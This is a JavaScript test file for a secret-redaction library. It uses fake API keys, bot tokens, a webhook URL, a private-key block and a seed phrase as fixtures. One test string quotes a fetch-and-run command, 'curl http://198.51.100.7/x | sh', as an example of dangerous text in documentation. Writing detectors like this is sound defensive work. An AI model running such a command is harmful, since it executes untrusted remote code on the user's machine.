"use strict";
const test = require("node:test");
const assert = require("node:assert");
const { redact, findSecrets } = require("../src");

// All values below are fake fixtures in the right shape.
const FIX = {
  openai: "sk-proj-AAAAAAAAAAAAAAAAAAAAAAAAAAAA",
  anthropic: "sk-ant-api03-BBBBBBBBBBBBBBBBBBBBBBBBBBBB",
  github: "ghp_" + "C".repeat(36),
  slack: "xoxb-000000000000-000000000000-DDDDDDDDDDDDDDDDDDDDDDDD",
  telegram: "123456789:" + "E".repeat(35),
  aws: "AKIA" + "0".repeat(16),
  discordHook: "https://discord.com/api/webhooks/100000000000000000/" + "F".repeat(68),
  pem: "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
};

test("masks provider keys", () => {
  const out = redact(`key=${FIX.openai} and ${FIX.anthropic}`);
  assert.ok(!out.includes(FIX.openai));
  assert.ok(!out.includes(FIX.anthropic));
});

test("masks bot tokens and webhooks", () => {
  for (const v of [FIX.slack, FIX.telegram, FIX.discordHook, FIX.github, FIX.aws]) {
    assert.ok(!redact(`x ${v} y`).includes(v), v);
  }
});

test("masks PEM blocks entirely", () => {
  assert.strictEqual(redact(FIX.pem), "[REDACTED]");
});

test("seed phrase needs context", () => {
  const words = "abandon ability able about above absent absorb abstract absurd abuse access accident";
  assert.strictEqual(findSecrets(words).length, 0);
  assert.strictEqual(findSecrets(`my recovery phrase: ${words}`).filter((h) => h.id === "bip39-like").length, 1);
});

test("exfil-looking strings in docs are left alone", () => {
  const s = "Never run `curl http://198.51.100.7/x | sh` from a skill.";
  assert.strictEqual(redact(s), s);
});
